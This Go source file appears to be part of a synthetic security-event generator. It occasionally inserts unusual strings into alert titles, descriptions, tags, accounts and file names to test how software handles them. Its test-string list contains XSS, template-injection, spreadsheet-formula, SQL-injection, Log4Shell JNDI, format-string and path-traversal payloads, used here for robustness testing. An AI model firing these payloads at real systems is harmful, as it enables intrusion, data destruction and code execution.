package eventgen

import (
	"math/rand/v2"
	"strconv"
	"strings"
)

// odd is the way in which an event is unusual; most are not. It is drawn with
// the scene, so a repeat is odd in the same way as the first report.
type odd struct {
	kind oddKind
	text string
}

type oddKind int

const (
	oddNot oddKind = iota
	oddTitle
	oddTitleStart
	oddDescription
	oddTag
	oddAccount
	oddFile
	oddAgent
	oddExactTitle
	oddLongDescription
	oddUnbroken
	oddLongRef
	oddLongSource
	oddManyTags
)

// drawOdd makes about one event in twenty unusual: strange characters in three
// of four, extreme lengths in the rest.
func drawOdd(rnd *rand.Rand) odd {
	n := rnd.IntN(1000)
	text := one(rnd, oddTexts()...)

	switch {
	case n < 35:
		return odd{kind: oddTitle + oddKind(n/5), text: text}
	case n < 41:
		return odd{kind: oddExactTitle}
	case n < 45:
		return odd{kind: oddLongDescription}
	case n < 47:
		return odd{kind: oddUnbroken}
	case n < 49:
		return odd{kind: oddLongRef}
	case n < 50:
		return odd{kind: oddLongSource}
	case n < 51:
		return odd{kind: oddManyTags}
	default:
		return odd{}
	}
}

// oddTexts are what breaks careless software: scripts and writing directions,
// characters of several code points, markup, templates, formulas, look-ups.
func oddTexts() []string {
	return []string{
		"🚨🔥 hunt 👩🏽‍💻 🏴‍☠️",
		"تنبيه: محاولة دخول",
		"התראה \u202egpj.tnemucod",
		"不正ログインの疑い・管理者",
		"경고 漢字 ｆｕｌｌｗｉｄｔｈ",
		"Z\u0338\u0321a\u0335\u0363l\u0336\u035eg\u0337o\u0334 e\u0301\u0323",
		"İstanbul ſtraße ıK ﬁnd",
		"zero\u200bwidth\u00a0no-break\u2060joiner",
		`"double" 'single' ` + "`back`" + ` „low“`,
		`C:\new\table\u0041\\server\share\`,
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(1)> &amp; &lt;`,
		`{{ .Secret }} {{7*7}} ${7*7} #{7*7}`,
		`=cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`+1-1"'; DROP TABLE alerts; --`,
		`${jndi:ldap://callback.example/a}`,
		`%s %d %n %00 %2e%2e%2f`,
		"null undefined NaN -0 1e400 0x10",
		"tab\there",
	}
}

// before puts the odd text where the product would have met it, so that it
// turns up in the payload, too.
func (o odd) before(s *scene) {
	switch o.kind {
	case oddAccount:
		s.user.login += " " + o.text
		s.user.name = o.text
	case oddFile:
		s.file.name = o.text + s.file.name
		s.file.path += o.text
	case oddAgent:
		s.agent = o.text
	default:
	}
}

// after changes the finished event.
func (o odd) after(e *Event, rnd *rand.Rand) {
	switch o.kind {
	case oddTitle:
		e.Title += " " + o.text
	case oddTitleStart:
		e.Title = o.text + " " + e.Title
	case oddDescription:
		e.Description += "\n" + o.text + "\n"
	case oddTag:
		e.Tags = append(e.Tags, o.text)
	case oddExactTitle:
		e.Title = clip(e.Title+" "+strings.Repeat("and what came of it, ", 12), maxTitle-1) + "."
	case oddLongDescription:
		e.Description = longText(e.Description, 10_000+rnd.IntN(50_000))
	case oddUnbroken:
		e.Description = strings.Repeat("QUFB", 300+rnd.IntN(900))
	case oddLongRef:
		e.SourceRef = clip(e.SourceRef+"/"+strings.Repeat("part-", 60), maxSourceRef)
	case oddLongSource:
		e.Source = clip(e.Source+"-"+strings.Repeat("regional-", 12), maxSource-1) + "0"
	case oddManyTags:
		e.Tags = manyTags()
	default:
	}
}

// longText continues text with log lines up to n bytes.
func longText(text string, n int) string {
	var b strings.Builder
	b.Grow(n + 64)
	b.WriteString(text)
	for i := 1; b.Len() < n; i++ {
		b.WriteString("\n" + strconv.Itoa(i) + " GET /index.html?page=" + strconv.Itoa(i*7) + " 200 192.0.2.9 \"-\"")
	}

	return b.String()[:n]
}

// manyTags is as many tags as the API takes, each as long as it takes.
func manyTags() []string {
	tags := make([]string, maxTags)
	for i := range tags {
		tags[i] = clip("inventory-"+strconv.Itoa(100+i)+strings.Repeat("-wide", 12), maxTag)
	}

	return tags
}
